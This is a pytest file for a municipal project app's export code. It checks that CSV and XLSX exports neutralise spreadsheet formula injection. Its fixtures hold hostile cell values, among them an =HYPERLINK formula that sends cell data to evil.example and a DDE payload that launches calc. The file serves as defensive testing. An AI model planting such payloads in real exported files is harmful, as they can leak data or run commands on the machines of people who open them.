"""Item 13: titles (and any text) starting with ``=``, ``+``, ``-``, ``@``, tab or CR became live formulas in
the XLSX export (openpyxl stores a text starting with ``=`` as a formula) and went raw into the CSV.

Now: no exported cell is a formula. CSV cells get a leading apostrophe (OWASP), XLSX cells are string
cells with the quote-prefix flag (the text itself unchanged, so "+90 232 ..." stays readable), numbers stay
numbers. Checked with openpyxl and with real LibreOffice (CSV imported with "evaluate formulas" on, XLSX
opened; both saved as flat ODS and searched for ``table:formula``). docs/security_export_notes.md explains the choice.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from datetime import date

import pytest

from izsa_desktop.core.model import Project
from izsa_desktop.services.export import ExportOptions, ExportQuery, Selection, run_export
from izsa_desktop.services.export.csv_export import write_csv
from izsa_desktop.services.export.xlsx_export import write_xlsx
from izsa_desktop.services.projects import ProjectService

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"tıkla")', "+1+1", "-2+3", "@SUM(1;1)",
           "=cmd|' /C calc'!A0", " =1+1"]
CONTROL = ["\t=1+1", "\r=2+2", "\uff1d3+3"]  # tab, CR, full-width equals: straight into a Selection
PHONE = "+90 232 000 00 00"


def _project(i: int, title: str, **kw) -> Project:  # type: ignore[no-untyped-def]
    return Project(district="karsiyaka", title_tr=title, title_en="Formula " + str(i), status="ongoing",
                   start_date=date(2024, 3, 1), sdg_primary=11, sdg_goals=[11], lat=38.46, lon=27.1,
                   budget_kurus=100_000 + i, **kw)


@pytest.fixture
def ws(central_ws):
    svc = ProjectService(central_ws, source="test")
    for i, t in enumerate(HOSTILE):
        svc.save(_project(i, t, contact_phone=PHONE, keywords="-negatif; =anahtar"))
    return central_ws


def _control_selection() -> Selection:
    return Selection([_project(100 + i, t, summary=t) for i, t in enumerate(CONTROL)], "2024-03-01")


def test_rules():
    from izsa_desktop.services.export.rows import formula_risk, neutral_text, text_cell

    for s in HOSTILE + CONTROL + ["\n=1", "\x00=1", "@x", "＋1"]:
        assert formula_risk(s) and neutral_text(s) == "'" + s
    for s in ["Çöp ayrıştırma", "İzmir", "'=already", "", "a=b", "1-2", "#hashtag"]:
        assert not formula_risk(s) and neutral_text(s) == s
    assert text_cell(-12.5, True) == "-12,50" and text_cell(-3) == "-3"  # numbers are never text


def test_csv_cells_are_never_formulas(ws, tmp_path):
    out = tmp_path / "p.csv"
    run_export(ws, ExportQuery(), ExportOptions("csv", str(out), include_personal=True))
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline=""), delimiter=";"))
    titles = sorted(r["Proje adı (Türkçe)"] for r in rows)
    assert titles == sorted("'" + t for t in HOSTILE)
    assert {r["İletişim telefonu"] for r in rows} == {"'" + PHONE}
    assert {r["Anahtar kelimeler"] for r in rows} == {"'-negatif; =anahtar"}
    assert all(r["Bütçe (TL)"].replace(",", "").isdigit() for r in rows)  # numbers stay plain numbers
    sel_out = tmp_path / "c.csv"
    write_csv(_control_selection(), sel_out)
    got = list(csv.DictReader(sel_out.open(encoding="utf-8-sig", newline=""), delimiter=";"))
    assert sorted(r["Proje adı (Türkçe)"] for r in got) == sorted("'" + t for t in CONTROL)
    assert sorted(r["Özet"] for r in got) == sorted("'" + t for t in CONTROL)


def test_xlsx_has_no_formula_and_keeps_the_text(ws, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "p.xlsx"
    run_export(ws, ExportQuery(), ExportOptions("xlsx", str(out), include_personal=True))
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in x or b"<f " in x for x in sheets)
    wb = load_workbook(out)
    sh = wb["Projeler"]
    head = [c.value for c in sh[1]]
    col = head.index("Proje adı (Türkçe)")
    cells = [r[col] for r in sh.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(HOSTILE)  # text unchanged: readable as typed
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    phones = [r[head.index("İletişim telefonu")] for r in sh.iter_rows(min_row=2)]
    assert {c.value for c in phones} == {PHONE} and all(c.data_type == "s" for c in phones)
    budgets = [r[head.index("Bütçe (TL)")] for r in sh.iter_rows(min_row=2)]
    assert all(c.data_type == "n" for c in budgets)
    ctl = tmp_path / "c.xlsx"
    write_xlsx(_control_selection(), ctl)
    sh = load_workbook(ctl)["Projeler"]
    got = [r[col] for r in sh.iter_rows(min_row=2)]
    assert sorted(c.value for c in got) == sorted(t.replace("\r", "\n") for t in CONTROL)  # XML reads CR as LF
    assert all(c.data_type == "s" and c.quotePrefix for c in got)


def _fods(src, tmp_path, infilter=None):  # type: ignore[no-untyped-def]
    """LibreOffice opens ``src`` and saves it as flat ODS (XML); the XML text."""
    conv = tmp_path / ("conv_" + src.suffix[1:])
    cmd = ["soffice", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless"]
    if infilter:
        cmd.append(f"--infilter={infilter}")
    proc = subprocess.run([*cmd, "--convert-to", "fods", "--outdir", str(conv), str(src)],
                          capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr
    return (conv / (src.stem + ".fods")).read_text(encoding="utf-8")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")
def test_libreoffice_finds_no_live_formula(ws, tmp_path):
    csv_out, xlsx_out = tmp_path / "p.csv", tmp_path / "p.xlsx"
    run_export(ws, ExportQuery(), ExportOptions("csv", str(csv_out), include_personal=True))
    run_export(ws, ExportQuery(), ExportOptions("xlsx", str(xlsx_out), include_personal=True))
    # CSV import with "Evaluate formulas" on (token 13): the most trusting way to open it
    text = _fods(csv_out, tmp_path, "Text - txt - csv (StarCalc):59,34,76,1,,1033,false,false,false,false,"
                                    "false,-1,true")
    assert "table:formula" not in text
    assert "+1+1" in text and "@SUM(1;1)" in text and PHONE in text
    text = _fods(xlsx_out, tmp_path)
    assert "table:formula" not in text
    assert "<text:p>+1+1</text:p>" in text and f"<text:p>{PHONE}</text:p>" in text
    assert "<text:p>@SUM(1;1)</text:p>" in text and "<text:p>-2+3</text:p>" in text


def test_joint_projects_csv_neutralises_titles(central_ws, tmp_path):
    """The joint-projects CSV (Insights tab, ``izsa insight joint``) carries titles too."""
    from izsa_desktop.services import joint

    svc = ProjectService(central_ws, source="test")
    for i, d in enumerate(("bornova", "karsiyaka")):
        svc.save(Project(district=d, title_tr=f"=HYPERLINK(\"http://evil.example\";\"bisiklet\") yolu ağı {i}",
                         purpose="Bisiklet yolu ağı ve güvenli bisiklet park alanları", status="ongoing",
                         start_date=date(2024, 3, 1), sdg_primary=11, sdg_goals=[11], sdg_targets=["11.2"],
                         lat=38.46, lon=27.2 + i * 0.01))
    res = joint.find_joint(central_ws, threshold=0.1)
    assert res.pairs
    out = tmp_path / "joint.csv"
    joint.write_csv(out, res, [f"h{i}" for i in range(11)])
    rows = list(csv.reader(out.open(encoding="utf-8-sig", newline=""), delimiter=";"))[1:]
    assert all(r[2].startswith("'=HYPERLINK") and r[5].startswith("'=HYPERLINK") for r in rows)
